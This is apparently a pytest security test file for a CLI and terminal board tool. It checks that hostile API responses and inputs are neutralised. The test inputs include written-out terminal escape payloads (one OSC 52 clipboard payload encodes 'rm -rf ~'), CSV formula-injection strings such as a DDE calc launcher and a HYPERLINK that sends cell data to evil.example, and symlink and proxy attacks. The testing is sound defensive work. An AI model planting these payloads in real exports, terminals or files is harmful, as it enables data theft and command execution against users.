"""Issue 22's terminal, key and proxy: a hostile API (tests/support/hostile_api.py) on loopback seen
through real `check` and `serve` processes and the board; what reaches a terminal, a log, a
CSV cell or an export file is inert, and the key is nowhere in it."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from textual.pilot import Pilot

import wahdx_tui.cli as cli
from tests.support.fixtures import QUICK, FakeClock, screen_text, toasts, until
from tests.support.hostile_api import FORBIDDEN, HOSTILE, HostileApi, ProxyRecorder
from tests.support.pgserver import PgServer, pg_server
from tests.support.teamprocs import child_env, serve_process, wait_for
from wahdx_tui.core.api.client import client_factory
from wahdx_tui.core.domain.model import PostStatus, State
from wahdx_tui.core.domain.records import Transition
from wahdx_tui.core.engine.engine import Engine
from wahdx_tui.core.reports.export import NAMES_TRIED, write_export
from wahdx_tui.core.settings.secret import ApiKey
from wahdx_tui.core.store.backend import open_store
from wahdx_tui.core.store.protocol import scope_for
from wahdx_tui.core.store.sqlite.store import SqliteStore
from wahdx_tui.core.watchlist.reader import load_watchlist, sample_watchlist_path
from wahdx_tui.ui.app import BoardApp
from wahdx_tui.ui.screens.detail import DetailScreen

KEY = "wx_live_echoed_5be1c0ffee"
WAHDX_TUI = Path(sys.executable).with_name("wahdx-tui")
WATCHLIST = str(sample_watchlist_path())
pytestmark = pytest.mark.usefixtures("quick_pilot")
__all__ = ["pg_server"]


def raw_bad(data: bytes) -> list[str]:
    """The controls in `data` (ESC, BEL, CR, C1, ...), as U+XXXX; [] when it is inert."""
    return sorted({f"U+{ord(c):04X}" for c in data.decode("utf-8") if c in FORBIDDEN})


def check(
    api: HostileApi, *argv: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[bytes]:
    """`wahdx-tui check` as a child process on `api`, with KEY."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("WAHDX_")}
    env = {**base, "WAHDX_API_KEY": KEY, "WAHDX_BASE_URL": api.base_url, **(env or {})}
    return subprocess.run(
        [str(WAHDX_TUI), "check", *argv], env=env, capture_output=True, timeout=120, check=False
    )


@pytest.fixture
def erroring() -> Iterator[HostileApi]:
    """An API answering HTTP 500 with escapes, C1 controls and the caller's key in its body."""
    with HostileApi() as api:
        yield api


# -- 1. every line to a terminal or a log is inert -----------------------------------------------


def test_checks_error_line_from_a_hostile_api_is_inert_and_the_log_too(
    erroring: HostileApi, tmp_path: Path
) -> None:
    """The body of an HTTP 500 once reached the terminal raw: its OSC set tmux's pane title,
    its OSC 52 wrote the clipboard; the --log file had the same bytes."""
    log = tmp_path / "debug.log"
    proc = check(erroring, WATCHLIST, "--log", str(log))
    assert proc.returncode == 2
    assert raw_bad(proc.stderr) == []
    lines = proc.stderr.decode().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: API failing at "), lines
    assert "HTTP 500: red bell" in lines[0]  # the API's words are kept, its bytes are not
    assert "PWNED" not in lines[0] and "cm0gLXJmIH4K" not in lines[0]  # OSC payloads gone
    text = log.read_bytes()
    assert b"retry: HTTP 500" in text
    assert raw_bad(text) == []
    assert KEY.encode() not in text and KEY.encode() not in proc.stderr


def test_the_operators_own_input_reaches_stderr_inert_too(tmp_path: Path) -> None:
    """A path (or any argument) with escapes in it, echoed in an `error:` line or argparse's
    usage message: the same one function on the way out makes it inert."""
    with HostileApi() as api:
        missing = check(api, str(tmp_path / "x\x1b]0;TITLE\x07.yaml"))
        usage = check(api, WATCHLIST, "--format", "\x1b]52;c;cm0gLXJmIH4K\x07")
    assert missing.returncode == 2 and usage.returncode == 2
    for proc in (missing, usage):
        assert raw_bad(proc.stderr) == [], proc.stderr
    assert b"x]0;TITLE.yaml" not in missing.stderr and b".yaml" in missing.stderr


def test_what_goes_to_stdout_is_inert_too(tmp_path: Path) -> None:
    """`store copy` names both stores on stdout: a folder name with escapes stays inert."""
    folder = tmp_path / "x\x1b]0;TITLE\x07\x9b2J"
    folder.mkdir()
    SqliteStore(folder / "src.sqlite3").close()
    proc = subprocess.run(
        [str(WAHDX_TUI), "store", "copy", str(folder / "src.sqlite3"), str(tmp_path / "d.db")],
        capture_output=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(b"copied ") and b"x]0;TITLE2J" not in proc.stdout
    assert raw_bad(proc.stdout) == []


def test_serve_writes_a_hostile_apis_words_inert_to_stderr_and_its_log(
    erroring: HostileApi, tmp_path: Path
) -> None:
    """`serve` logged the API's ESC, BEL and OSC bytes to stderr (a journal, a terminal) and
    nine lines of its --log file."""
    env = child_env(tmp_path / "state", base_url=erroring.base_url, key=KEY)
    log = tmp_path / "serve.log"
    args = [WATCHLIST, "--history", str(tmp_path / "h.sqlite3"), "--log", str(log)]
    args += ["--interval", "1"]
    with serve_process(env, tmp_path / "stderr.txt", *args) as served:
        wait_for(lambda: served.says("API down"), "serve saying the API is down")
        wait_for(lambda: b"batch of" in log.read_bytes(), "the log's given-up batch")
        served.proc.send_signal(signal.SIGTERM)
        assert served.proc.wait(30) == 0
    stderr = (tmp_path / "stderr.txt").read_bytes()
    assert b"API down" in stderr and b"red bell" in stderr
    for data in (stderr, log.read_bytes()):
        assert raw_bad(data) == []
        assert KEY.encode() not in data


# -- 2. a key the API echoes back is redacted everywhere ------------------------------------------


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_a_key_echoed_in_an_answer_is_in_no_output_of_check(fmt: str) -> None:
    """A failed post's error that quotes the key: the log redacted it, the table, JSON and CSV
    printed it."""
    with HostileApi(failed_with="token {key} is not allowed for this account") as api:
        proc = check(api, WATCHLIST, "--format", fmt)
    assert proc.returncode == 1, proc.stderr
    out = proc.stdout.decode()
    assert "is not allowed for this account" in out
    assert KEY not in out and KEY not in proc.stderr.decode()
    assert "token *** is not" in out


async def test_a_key_echoed_by_the_api_is_not_on_the_board() -> None:
    """On the board: the rows, the detail screen (its raw JSON too), and the banner of a
    failed refresh whose error quotes the key."""
    watchlist = load_watchlist(WATCHLIST)
    with HostileApi(failed_with="token {key} is not allowed " + HOSTILE) as api:
        engine = Engine(watchlist, client_factory(api.base_url, ApiKey(KEY), QUICK), interval=3600)
        app = BoardApp(engine, bell=False)
        async with app.run_test(size=(160, 40)) as pilot:
            await until(
                lambda: app.engine.passes >= 1 and not app.engine.polling, "a pass", pilot=pilot
            )
            shown = screen_text(app)
            assert "is not allowed" in shown and KEY not in shown
            await pilot.press("enter")
            screen = app.screen
            assert isinstance(screen, DetailScreen)
            await until(lambda: screen.recheck_note.startswith("re-check"), "re-check", pilot=pilot)
            shown = screen_text(app)
            assert "is not allowed" in shown and KEY not in shown
            await pilot.press("escape")
            api.failed_with = None  # now every request is an HTTP 500 quoting the key
            await pilot.press("r")
            await until(lambda: app.banner.display, "the refresh's banner", pilot=pilot)
            shown = screen_text(app)
            assert "HTTP 500" in shown and KEY not in shown
            assert all(KEY not in message for _, message in toasts(app))
    assert api.keys and all(k == KEY for k in api.keys)  # it was sent, and only there


# -- 4 and 5. the board's exports, and every CSV ---------------------------------------------------

FORMULA_LABELS = ("+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =2+2")
FORMULA_ERROR = '-1+HYPERLINK("http://evil.example/?"&A1,"click me")'
FORMULA_WATCHLIST = "posts:\n" + "".join(
    f"  - {{accountId: {json.dumps(account)}, publishId: p{i}, label: {json.dumps(label)}}}\n"
    for i, (account, label) in enumerate(
        zip(("acc_a", "acc_b", "-2+3", "=acc"), FORMULA_LABELS, strict=True)
    )
)
NOW = 1_700_000_000.0


def assert_no_live_formula(text: str) -> list[dict[str, str]]:
    """Every cell of a CSV text is inert in a spreadsheet; the records."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), row
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_checks_csv_defuses_every_formula_start(tmp_path: Path) -> None:
    """`-1+HYPERLINK(...)` from the API and a label `+1+cmd|...` were written live: a
    digit after the sign was taken for a number."""
    watchlist = tmp_path / "w.yaml"
    watchlist.write_text(FORMULA_WATCHLIST, encoding="utf-8")
    with HostileApi(failed_with=FORMULA_ERROR) as api:
        proc = check(api, str(watchlist), "--format", "csv")
    assert proc.returncode == 1, proc.stderr
    records = assert_no_live_formula(proc.stdout.decode())
    assert [r["error"] for r in records] == ["'" + FORMULA_ERROR] * 4
    assert [r["label"] for r in records][:2] == ["'" + label for label in FORMULA_LABELS[:2]]
    assert [r["accountId"] for r in records][2:] == ["'-2+3", "'=acc"]


def test_reports_csv_defuses_every_formula_start(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    watchlist = tmp_path / "w.yaml"
    watchlist.write_text(FORMULA_WATCHLIST, encoding="utf-8")
    posts = load_watchlist(str(watchlist)).posts
    scope = scope_for("https://api.wahdx.com")
    with SqliteStore(tmp_path / "h.sqlite3") as store:
        for post in posts:
            status = PostStatus(post.key, State.FAILED, "failed", None, FORMULA_ERROR, NOW)
            store.record(scope, [status], [Transition(post.key, None, State.FAILED, NOW)])
    args = [str(watchlist), "--history", str(tmp_path / "h.sqlite3"), "--format", "csv"]
    assert cli.main(["report", *args]) == 0
    records = assert_no_live_formula(capsys.readouterr().out)
    assert len(records) == 4 and all(r["error"] == "'" + FORMULA_ERROR for r in records)


@asynccontextmanager
async def board_on_hostile(
    watchlist: str, export_dir: Path, failed_with: str = FORMULA_ERROR
) -> AsyncIterator[tuple[BoardApp, Pilot[int]]]:
    """The board on `watchlist` against a HostileApi whose posts failed `failed_with`, after
    its first pass, with its clock at NOW and its exports in `export_dir`."""
    with HostileApi(failed_with=failed_with) as api:
        engine = Engine(
            load_watchlist(watchlist),
            client_factory(api.base_url, ApiKey(KEY), QUICK),
            interval=3600,
            clock=FakeClock(NOW),
        )
        app = BoardApp(engine, bell=False, export_dir=export_dir)
        async with app.run_test(size=(160, 40)) as pilot:
            await until(
                lambda: app.engine.passes >= 1 and not app.engine.polling, "a pass", pilot=pilot
            )
            yield app, pilot


async def test_the_boards_export_defuses_every_formula_start(tmp_path: Path) -> None:
    watchlist = tmp_path / "w.yaml"
    watchlist.write_text(FORMULA_WATCHLIST, encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    async with board_on_hostile(str(watchlist), out) as (_app, pilot):
        await pilot.press("x")
    (exported,) = out.glob("*.csv")
    records = assert_no_live_formula(exported.read_text(encoding="utf-8"))
    assert len(records) == 4 and all(r["error"] == "'" + FORMULA_ERROR for r in records)


async def test_an_export_never_follows_a_planted_symlink_nor_overwrites(tmp_path: Path) -> None:
    """`x` wrote through a symlink planted under the next export's name, and the toast named
    the link's target."""
    out = tmp_path / "exports"
    out.mkdir()
    stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(NOW))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    (out / f"wahdx-export-{stamp}.csv").symlink_to(tmp_path / "created-through-a-link.csv")
    (out / f"wahdx-export-{stamp}-2.csv").symlink_to(victim)
    (out / f"wahdx-export-{stamp}.json").write_text("someone else's\n")
    async with board_on_hostile(WATCHLIST, out, "failed") as (app, pilot):
        await pilot.press("x")
        await pilot.press("X")
        said = [message for _, message in toasts(app)]
    assert not (tmp_path / "created-through-a-link.csv").exists()
    assert victim.read_text() == "keep me\n"
    assert (out / f"wahdx-export-{stamp}.json").read_text() == "someone else's\n"
    made = [out / f"wahdx-export-{stamp}-3.csv", out / f"wahdx-export-{stamp}-2.json"]
    for path in made:
        assert not path.is_symlink() and path.stat().st_mode & 0o777 == 0o600
        assert any(str(path) in message for message in said), said
    assert all("victim" not in m and "created-through" not in m for m in said)
    assert json.loads(made[1].read_text())[0]["state"] == "failed"


def test_an_export_whose_every_name_is_taken_says_so(tmp_path: Path) -> None:
    stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(NOW))
    for n in range(1, NAMES_TRIED + 1):
        name = f"wahdx-export-{stamp}.csv" if n == 1 else f"wahdx-export-{stamp}-{n}.csv"
        (tmp_path / name).symlink_to(tmp_path / f"target-{n}")
    with pytest.raises(OSError, match="names are taken") as info:
        write_export([], "csv", tmp_path, NOW)
    assert info.value.strerror and "taken" in info.value.strerror
    assert not list(tmp_path.glob("target-*"))


# -- 3. the proxy, and 11. names under .localhost -------------------------------------------------


def test_a_proxy_never_sees_a_loopback_request_nor_the_key() -> None:
    """With HTTP_PROXY set and a plain http:// loopback base URL, the proxy on another address
    received x-api-key in clear. Loopback never goes through a proxy."""
    proxies = ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "HTTPS_PROXY")
    with ProxyRecorder() as proxy, HostileApi(failed_with="failed") as api:
        env = {name: proxy.url for name in proxies} | {"NO_PROXY": "", "no_proxy": ""}
        by_ip = check(api, WATCHLIST, "--format", "json", env=env)
        port = api.base_url.rsplit(":", 1)[1]
        by_name = check(api, WATCHLIST, env={**env, "WAHDX_BASE_URL": f"http://localhost:{port}"})
        asked = api.requests
    assert proxy.connections == 0 and bytes(proxy.received) == b""
    assert asked >= 2  # both went to the API itself
    for proc in (by_ip, by_name):
        assert proc.returncode == 1, proc.stderr  # every post answered (failed), directly


def hosts_namespace() -> list[str]:
    """A command prefix running its command with /etc/hosts replaced (a mount namespace of
    its own); skips the test where user namespaces are not allowed."""
    probe = subprocess.run(["unshare", "-rm", "true"], capture_output=True, check=False)
    if probe.returncode != 0:
        pytest.skip("needs `unshare -rm` (user and mount namespaces) to give a name an address")
    return ["unshare", "-rm", "sh", "-c", 'mount --bind "$HOSTS" /etc/hosts && exec "$@"', "sh"]


def test_a_localhost_name_counts_as_loopback_only_when_it_resolves_there(tmp_path: Path) -> None:
    """`evil.localhost` in /etc/hosts (or DNS) can point anywhere: plain http:// to it would
    send the key in clear. It counted as loopback by its name alone."""
    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 localhost good.localhost\n10.9.8.7 evil.localhost\n")
    prefix = hosts_namespace()
    base = {k: v for k, v in os.environ.items() if not k.startswith("WAHDX_")}
    with HostileApi(failed_with="failed") as api:
        port = api.base_url.rsplit(":", 1)[1]

        def check_at(host: str) -> subprocess.CompletedProcess[bytes]:
            env = {**base, "HOSTS": str(hosts), "WAHDX_API_KEY": KEY}
            env["WAHDX_BASE_URL"] = f"http://{host}:{port}"
            command = [*prefix, str(WAHDX_TUI), "check", WATCHLIST, "--timeout", "2"]
            return subprocess.run(command, env=env, capture_output=True, timeout=120, check=False)

        evil, good = check_at("evil.localhost"), check_at("good.localhost")
    assert evil.returncode == 2
    line = evil.stderr.decode().strip()
    assert line.startswith("error: refusing plain http:// to evil.localhost") and "\n" not in line
    assert "loopback" in line
    assert good.returncode == 1, good.stderr  # resolves to 127.0.0.1: allowed, answered


# -- smaller: 7. a store that cannot be opened ------------------------------------------------------


@pytest.mark.parametrize("command", ["serve", "watch"])
def test_a_corrupt_store_suggests_only_flags_the_command_takes(
    command: str, tmp_path: Path
) -> None:
    """`serve` on a corrupt (or read-only) store suggested --no-history, which it refuses."""
    corrupt = tmp_path / "history.sqlite3"
    corrupt.write_bytes(b"this is not a database at all\n" * 200)
    env = child_env(tmp_path / "state", base_url="http://127.0.0.1:9", key=KEY)
    run = [sys.executable, "-m", "wahdx_tui", command]
    proc = subprocess.run(
        [*run, WATCHLIST, "--history", str(corrupt)], env=env, capture_output=True, check=False
    )
    assert proc.returncode == 2
    (line,) = proc.stderr.decode().splitlines()
    assert line.startswith("error: cannot open history at ") and "not a SQLite database" in line
    suggested = set(re.findall(r"--[a-z][a-z-]+", line))
    assert "--history" in suggested
    taken = subprocess.run([*run, "--help"], env=env, capture_output=True, check=True).stdout
    assert all(flag.encode() in taken for flag in suggested), (suggested, command)
    assert ("--no-history" in suggested) is (command == "watch")


# -- smaller: 8. `report` on a database without the project's tables -------------------------------


@pytest.fixture
def pg_db(pg_server: PgServer) -> Iterator[str]:
    """A fresh database on the suite's throwaway PostgreSQL, dropped after the test."""
    name = pg_server.create_database()
    try:
        yield name
    finally:
        pg_server.drop_database(name)


def report(store: str, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[bytes]:
    """`wahdx-tui report` as a child process on `store`."""
    command = [sys.executable, "-m", "wahdx_tui", "report", WATCHLIST, "--store", store]
    return subprocess.run(
        command, env=child_env(tmp_path / "state", **env), capture_output=True, check=False
    )


def test_report_on_a_store_without_the_projects_tables_is_an_error_on_both_stores(
    pg_server: PgServer, pg_db: str, tmp_path: Path
) -> None:
    """PostgreSQL said "Nothing to hand over" with exit 0 where SQLite said exit 2."""
    with pg_server.admin(pg_db) as conn:
        conn.execute("CREATE TABLE invoices (id integer)")  # someone else's database
    foreign = tmp_path / "other.sqlite3"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE invoices (id integer)")
    pg = report(pg_server.url(pg_db, password=False), tmp_path, PGPASSWORD=pg_server.password)
    lite = report(str(foreign), tmp_path)
    for proc in (pg, lite):
        assert proc.returncode == 2 and proc.stdout == b"", proc
        (line,) = proc.stderr.decode().splitlines()
        assert line.startswith("error: cannot open ") and "wahdx-tui history" in line
    assert pg_server.password.encode() not in pg.stderr


# -- smaller: 9. a history file others can read ----------------------------------------------------


def test_a_history_file_others_can_read_is_made_600_and_said_once(tmp_path: Path) -> None:
    """An existing history of mode 644 stayed 644, with no word."""
    history = tmp_path / "h.sqlite3"
    SqliteStore(history).close()
    for path in (history, Path(f"{history}-wal")):
        if path.exists():
            path.chmod(0o644)
    with HostileApi(failed_with="failed") as api:
        env = child_env(tmp_path / "state", base_url=api.base_url, key=KEY)
        said = []
        for run in ("first", "second"):
            log = tmp_path / f"{run}.txt"
            with serve_process(env, log, WATCHLIST, "--history", str(history)) as served:
                wait_for(lambda: served.says("started"), "serve started")
                served.proc.send_signal(signal.SIGTERM)
                assert served.proc.wait(30) == 0
            said.append([line for line in served.text().splitlines() if "mode" in line])
    assert said[0] == [
        f"note: the history file {history} was mode 644, so others could read it: it is 600 now"
    ]
    assert said[1] == []  # once
    assert history.stat().st_mode & 0o777 == 0o600
    assert all(p.stat().st_mode & 0o077 == 0 for p in tmp_path.glob("h.sqlite3*"))


# -- smaller: 10. a password in the --store URL ----------------------------------------------------


def test_a_password_in_the_store_url_on_the_command_line_is_warned_of(
    pg_server: PgServer, pg_db: str, tmp_path: Path
) -> None:
    """It is in the process list for anyone on the host; PGPASSWORD is not."""
    open_store(pg_server.url(pg_db)).close()  # the tables, so report has a history to read
    in_argv = report(pg_server.url(pg_db), tmp_path)
    in_env = report(pg_server.url(pg_db, password=False), tmp_path, PGPASSWORD=pg_server.password)
    assert in_argv.returncode == 0 and in_env.returncode == 0, (in_argv.stderr, in_env.stderr)
    (line,) = in_argv.stderr.decode().splitlines()
    assert line.startswith("warning: the store URL on the command line holds a password")
    assert "ps" in line and "PGPASSWORD" in line and "--store-password-file" in line
    assert pg_server.password not in line
    assert in_env.stderr == b""
